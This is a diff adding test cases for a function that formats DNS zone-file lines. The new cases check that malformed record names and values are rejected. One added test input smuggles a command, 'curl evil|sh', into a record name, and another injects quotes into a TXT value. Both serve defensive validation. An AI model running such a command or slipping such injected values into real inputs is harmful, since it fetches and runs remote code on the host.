@@ -60,6 +60,9 @@ describe("standing of a record", () => {
 
   it("is written as zone files have it", () => {
     expect(zoneLine({ name: "_acme-challenge.a.b", kind: "TXT", value: "x" })).toBe('_acme-challenge.a.b. 300 IN TXT "x"');
+    expect(zoneLine({ name: "x;curl evil|sh;.b", kind: "TXT", value: "x" })).toBeNull();
+    expect(zoneLine({ name: "a.b", kind: "TXT", value: 'x" "y' })).toBeNull();
+    expect(zoneLine({ name: "a.b", kind: "AAAA", value: "2001:db8::1" })).toBe("a.b. 300 IN AAAA 2001:db8::1");
     expect(addressRecord("a.b", "2001:db8::1").kind).toBe("AAAA");
   });
 });
